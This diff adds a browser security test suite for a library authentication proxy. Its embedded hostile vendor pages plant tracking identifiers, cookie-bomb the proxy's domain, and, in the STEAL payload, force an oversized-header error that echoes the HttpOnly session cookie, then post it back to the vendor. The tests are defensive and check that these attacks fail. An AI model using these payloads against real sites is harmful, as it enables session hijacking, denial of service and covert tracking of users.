@@ -1,0 +1,359 @@
+"""Review: a vendor that uses the patron's browser to learn who the patron is (P1, P4, P7).
+
+Real Chromium, real slapd, recording vendors serving hostile pages through the proxy, signed in
+through the real form. Each test here failed on the code it was written against.
+"""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+from aiohttp import web
+from playwright.async_api import Error, Page, async_playwright
+
+from proxy.web.messages import UI
+from tests.browser_support import CHROMIUM, CHROMIUM_ARGS
+from tests.fixtures_ldap import generic_password, generic_uid
+from tests.harness import ldap_directory, sign_in_through_form, vendor_toml, write_config
+
+A = "www.vendor-a.test"
+B = "www.vendor-b.test"
+
+
+def _route(text: str, extra: dict[str, str] | None = None) -> Any:
+    async def handler(request: web.Request) -> web.StreamResponse:
+        return web.Response(
+            body=text.encode(),
+            headers={"Content-Type": "text/html; charset=utf-8", **(extra or {})},
+        )
+
+    return handler
+
+
+async def _stack(
+    tmp_path: Path, port: int, slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> tuple[Any, Any, Any]:
+    va = await vendor_factory(A)
+    vb = await vendor_factory(B)
+    cfg = write_config(
+        tmp_path,
+        port=port,
+        directory=ldap_directory(slapd, tmp_path),
+        vendors={"a": vendor_toml("a", va), "b": vendor_toml("b", vb)},
+        extra="\n[throttle]\naddress_limit = 1000\n",
+    )
+    driver = await proxy_factory(cfg)
+    return driver, va, vb
+
+
+@contextlib.asynccontextmanager
+async def _browser_page() -> AsyncIterator[Page]:
+    async with async_playwright() as p:
+        browser = await p.chromium.launch(
+            executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True
+        )
+        try:
+            page = await (await browser.new_context()).new_page()
+            yield page
+        finally:
+            await browser.close()
+
+
+async def _sign_out(page: Page, own: str) -> None:
+    await page.goto(f"{own}/menu")
+    async with page.expect_navigation():
+        await page.get_by_role("button", name=UI["sign_out"]).click()
+    await page.wait_for_timeout(1500)  # the forget images load
+
+
+async def _text(page: Page) -> str:
+    return str(await page.evaluate("() => document.getElementById('out').textContent"))
+
+
+PLANT_NAME = """<!doctype html><title>a</title><p id="out">x</p>
+<script>window.name = "vendor-a-tracking-id-4242";</script>"""
+READ = """<!doctype html><title>r</title><p id="out"></p>
+<script>document.getElementById("out").textContent = window.name + "|" + document.cookie;</script>"""
+
+
+async def test_window_name_a_vendor_sets_is_read_by_the_next_patron_after_sign_out(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """Vendor A's script names the tab (`window.name`). Every mapped host and the proxy's own
+    pages are one site (subdomains of the public host), so Chromium keeps the name across the
+    navigations to the menu, sign-out, the next patron's sign-in and that patron's visit to
+    vendor A again or to vendor B: an identifier that links two patrons' sessions at one
+    vendor, and one patron's visits to two vendors (P4). Clear-Site-Data does not touch it.
+    Should: the name is gone once the patron is on the proxy's own pages (e.g. the proxy's own
+    pages send `Cross-Origin-Opener-Policy: same-origin`, which starts a new browsing context
+    group and clears the name, or reset it)."""
+    driver, va, vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/plant"] = _route(PLANT_NAME)
+    va.routes["/read"] = _route(READ)
+    vb.routes["/read"] = _route(READ)
+    own = f"http://{driver.public}"
+    async with _browser_page() as page:
+        await sign_in_through_form(page, own)
+        await page.goto(f"http://{driver.mapped(A)}/plant", wait_until="load")
+        # The same patron goes back to the menu and on to another vendor.
+        await page.goto(f"{own}/menu")
+        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
+        seen_by_b = await _text(page)
+        # Sign out; the next patron at the shared computer signs in and opens vendor A.
+        await _sign_out(page, own)
+        await sign_in_through_form(page, own, generic_uid(3), generic_password(3))
+        await page.goto(f"http://{driver.mapped(A)}/read", wait_until="load")
+        seen_next_patron = await _text(page)
+    assert "vendor-a-tracking-id-4242" not in seen_by_b, "vendor B reads vendor A's id"
+    assert "vendor-a-tracking-id-4242" not in seen_next_patron, "the next patron carries it"
+
+
+PLANT_PATH_COOKIE = """<!doctype html><title>a</title><p id="out">x</p>
+<script>document.cookie = "vid=vendor-a-cookie-id-4242; path=/deep; max-age=31536000";
+document.getElementById("out").textContent = "planted";</script>"""
+READ_DEEP = """<!doctype html><title>r</title><p id="out"></p>
+<script>document.getElementById("out").textContent = document.cookie;</script>"""
+
+
+async def test_a_vendor_scripts_cookie_with_a_path_outlives_sign_out_for_the_next_patron(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """A vendor script writes `vid=…; path=/deep; max-age=1 year` on its mapped host. Sign-out's
+    forget answers delete only the cookies the browser sent to `/.weston-proxy/forget`, with
+    Path=/ (proxy/web/forget.py clear_page_cookies), and a cookie with path /deep is not sent
+    there, so it stays; the `Clear-Site-Data` leaves cookies out. The next patron's session at
+    the same vendor reads it from `document.cookie` on /deep/…: the vendor links two patrons
+    on a shared computer (P4). Should: no cookie a vendor script wrote survives sign-out."""
+    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/deep/plant"] = _route(PLANT_PATH_COOKIE)
+    va.routes["/deep/read"] = _route(READ_DEEP)
+    own = f"http://{driver.public}"
+    async with _browser_page() as page:
+        await sign_in_through_form(page, own)
+        await page.goto(f"http://{driver.mapped(A)}/deep/plant", wait_until="load")
+        assert await _text(page) == "planted"
+        await _sign_out(page, own)
+        await sign_in_through_form(page, own, generic_uid(4), generic_password(4))
+        await page.goto(f"http://{driver.mapped(A)}/deep/read", wait_until="load")
+        seen = await _text(page)
+    assert "vendor-a-cookie-id-4242" not in seen, "the next patron's page reads the last one's id"
+
+
+BOMB = """<!doctype html><title>a</title><p id="out">x</p>
+<script>
+const big = "b".repeat(3900);
+for (let i = 0; i < 6; i++) {
+  document.cookie = "bomb" + i + "=" + big + "; domain=proxy.localhost; path=/; max-age=31536000";
+}
+document.getElementById("out").textContent = String(document.cookie.length);
+</script>"""
+
+
+async def test_a_vendor_cookie_bomb_on_the_proxys_domain_leaves_the_patron_able_to_sign_out(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """A vendor script writes six 3.9 KB cookies for the proxy's own domain. From then on the
+    browser's Cookie header (~24 KB) is over the server's header-line limit (8 190) on every
+    proxy host: every page, the menu, sign-out and sign-in answer aiohttp's bare
+    `400 Bad Request` text, and nothing the proxy could answer clears the cookies. The patron
+    cannot sign out (the session stays open on a shared computer for the next person), nor
+    can the next patron sign in, for a year (P7: a clear page, and never a session that should
+    not go on). Should: sign-out still works (or a page says what is wrong and clears the
+    cookies, so the next request works)."""
+    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/bomb"] = _route(BOMB)
+    own = f"http://{driver.public}"
+    async with _browser_page() as page:
+        await sign_in_through_form(page, own)
+        await page.goto(f"http://{driver.mapped(A)}/bomb", wait_until="load")
+        assert int(await _text(page)) > 20000, "the cookies were written"
+        first = await page.goto(f"{own}/menu")
+        first_status = first.status if first is not None else 0
+        # Whatever that first answer was, the proxy works again for the patron: the cookies
+        # are gone (the session's too), so the patron signs in again and reaches the menu.
+        again = await page.goto(f"{own}/menu")
+        status = again.status if again is not None else 0
+        assert status == 200 and "bomb" not in str(await page.context.cookies()), first_status
+        await sign_in_through_form(page, own)
+        again = await page.goto(f"{own}/menu")
+        status = again.status if again is not None else 0
+        body = await page.content()
+    assert status == 200 and UI["sign_out"] in body, (
+        f"menu after a vendor's cookie bomb: first {first_status}, then {status}: {body[:200]!r}"
+    )
+
+
+async def test_the_answer_to_an_oversized_request_is_the_proxys_fixed_page(
+    tmp_path: Path,
+    port: int,
+    running_slapd: Any,
+    vendor_factory: Any,
+    proxy_factory: Any,
+) -> None:
+    """Over a raw socket: a Cookie header over the limit gets 431 with Clear-Site-Data
+    "cookies", a request line over it 414 without, a malformed header 400; each a fixed page
+    (no byte of the request in it) with the proxy's own page headers, and one log line each
+    naming the status, not the request."""
+    import asyncio
+
+    from structlog.testing import capture_logs
+
+    driver, _va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    host, port_ = driver.public.rsplit(":", 1)
+    secret = "canary-cookie-value-7391"
+    cases = [
+        (
+            b"GET / HTTP/1.1\r\nHost: %s\r\nCookie: c=" % host.encode()
+            + (secret * 600).encode()
+            + b"\r\n\r\n",
+            431,
+        ),
+        (b"GET /" + (secret * 600).encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
+        (b"GET / HTTP/1.1\r\nHost: x\r\nBad Header" + secret.encode() + b": 1\r\n\r\n", 400),
+    ]
+    with capture_logs() as logs:
+        for raw, want in cases:
+            reader, writer = await asyncio.open_connection("127.0.0.1", int(port_))
+            writer.write(raw)
+            await writer.drain()
+            answer = await reader.read(65536)
+            writer.close()
+            head, _, body = answer.partition(b"\r\n\r\n")
+            assert head.startswith(b"HTTP/1.1 %d " % want) or head.startswith(
+                b"HTTP/1.0 %d " % want
+            ), head[:80]
+            assert secret.encode() not in answer and b"<h1>" in body
+            assert b"frame-ancestors 'none'" in head and b"no-store" in head
+            assert (b'Clear-Site-Data: "cookies"' in head) == (want == 431)
+    assert secret not in repr(logs)
+    assert {e.get("status") for e in logs if e.get("event") == "request_refused"} == {
+        431,
+        414,
+        400,
+    }
+
+
+GEO = """<!doctype html><title>a</title><p id="out"></p>
+<script>
+const fp = document.featurePolicy || document.permissionsPolicy;
+const allowed = ["geolocation", "camera", "microphone", "clipboard-read"].filter(
+  f => fp && fp.allowsFeature(f));
+document.getElementById("out").textContent = allowed.join(",");
+</script>"""
+
+
+async def test_a_vendor_page_may_ask_the_patron_for_location_camera_and_microphone(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """Proxied vendor pages get no Permissions-Policy from the proxy (only its own pages carry
+    one, with interest-cohort/browsing-topics), and a vendor's own passes through unchanged.
+    A vendor script's `navigator.geolocation.getCurrentPosition()` or `getUserMedia()` then
+    prompts under the library's mapped host name, which a patron trusting the library grants;
+    the grant is kept per origin in the browser, so on a shared computer the next patron's
+    session at that vendor gets the position with no prompt at all (sign-out's Clear-Site-Data
+    does not reset permissions). No licensed database needs these: the proxy should stop them,
+    e.g. `Permissions-Policy: geolocation=(), camera=(), microphone=(), …` on proxied
+    responses, overriding a vendor's `geolocation=*`."""
+    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/geo"] = _route(GEO, {"Permissions-Policy": "geolocation=*, camera=*"})
+    own = f"http://{driver.public}"
+    async with _browser_page() as page:
+        await sign_in_through_form(page, own)
+        resp = await page.goto(f"http://{driver.mapped(A)}/geo", wait_until="load")
+        assert resp is not None and resp.status == 200
+        allowed = await _text(page)
+    assert allowed == "", f"a vendor page may use: {allowed}"
+
+
+STEAL = """<!doctype html><title>a</title><p id="out">x</p>
+<script>
+(async () => {
+  const big = "b".repeat(3900);
+  for (let i = 0; i < 6; i++) {
+    document.cookie = "bomb" + i + "=" + big + "; domain=proxy.localhost; path=/";
+  }
+  const r = await fetch("/probe", {credentials: "include"});
+  const text = await r.text();
+  document.getElementById("out").textContent = "read " + r.status + " " + text;
+  for (let i = 0; i < 6; i++) {
+    document.cookie = "bomb" + i + "=; domain=proxy.localhost; path=/; max-age=0";
+  }
+  await fetch("/report", {method: "POST", body: text});
+})();
+</script>"""
+
+
+async def test_a_vendor_script_reads_the_httponly_session_cookie_through_an_oversized_request(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """The proxy's session cookie is HttpOnly so vendor scripts cannot read it. But a vendor
+    script can make the browser's Cookie header too long (cookies on the proxy's domain), then
+    fetch() its own mapped host: the server's 400 answer (aiohttp's parser error, sent as the
+    proxy's answer) quotes the start of the over-long header line in its body, `Got more than
+    8190 bytes when reading: b'weston_session=<id>…`, and a same-origin fetch may read it. The
+    script removes its cookies and posts the text to its vendor: the vendor has the patron's
+    proxy session id (P1 names it: "no … proxy session id or proxy cookie"), a stable
+    identifier across every vendor the patron uses (P4), and a bearer credential to the
+    patron's session. Should: the answer to an oversized request never echoes what the client
+    sent."""
+    driver, va, _vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/steal"] = _route(STEAL)
+    own = f"http://{driver.public}"
+    name = driver.config.server.cookie_name
+    async with async_playwright() as p:
+        browser = await p.chromium.launch(
+            executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True
+        )
+        try:
+            context = await browser.new_context()
+            page = await context.new_page()
+            await sign_in_through_form(page, own)
+            sid = next(c["value"] for c in await context.cookies() if c["name"] == name)
+            await page.goto(f"http://{driver.mapped(A)}/steal", wait_until="load")
+            with contextlib.suppress(Error):
+                await page.wait_for_function(
+                    "() => document.getElementById('out').textContent.startsWith('read')",
+                    timeout=8000,
+                )
+            read = await _text(page)
+            await page.wait_for_timeout(500)  # the report, if the proxy still lets it through
+        finally:
+            await browser.close()
+    # What the script could read: the proxy's fixed 431 page, nothing of the request.
+    assert read.startswith("read 431 "), read[:300]
+    assert sid not in read and "bbbb" not in read, read[:300]
+    reports = [r for r in va.requests if r.path_qs.startswith("/report")]
+    assert all(sid.encode() not in r.body for r in reports)
+
+
+PLANT_PARENT = """<!doctype html><title>a</title><p id="out">x</p>
+<script>document.cookie = "xid=vendor-a-shared-id-4242; domain=proxy.localhost; path=/";
+document.getElementById("out").textContent = "planted";</script>"""
+
+
+async def test_a_cookie_vendor_a_writes_on_the_proxys_domain_is_read_by_vendor_b(
+    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
+) -> None:
+    """Vendor A's script writes `xid=…; domain=<public host>`; every mapped host is under the
+    public host, so the browser sends it to vendor B's mapped host too and B's script reads it
+    from `document.cookie`: vendor B (or a script both embed) links the patron's visits to A
+    and B (P4). The proxy sees the cookie arrive on every request to B's host (it never
+    forwards it) and could delete it there, as its forget answer does at sign-out; it lives
+    on for the whole session. Should: a cookie one vendor's page writes on the proxy's
+    domain is not readable by another vendor's page."""
+    driver, va, vb = await _stack(tmp_path, port, running_slapd, vendor_factory, proxy_factory)
+    va.routes["/plant"] = _route(PLANT_PARENT)
+    vb.routes["/read"] = _route(READ)
+    own = f"http://{driver.public}"
+    async with _browser_page() as page:
+        await sign_in_through_form(page, own)
+        await page.goto(f"http://{driver.mapped(A)}/plant", wait_until="load")
+        assert await _text(page) == "planted"
+        await page.goto(f"{own}/menu")
+        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
+        await page.goto(f"http://{driver.mapped(B)}/read", wait_until="load")
+        seen = await _text(page)
+    assert "vendor-a-shared-id-4242" not in seen, f"vendor B's page reads: {seen!r}"
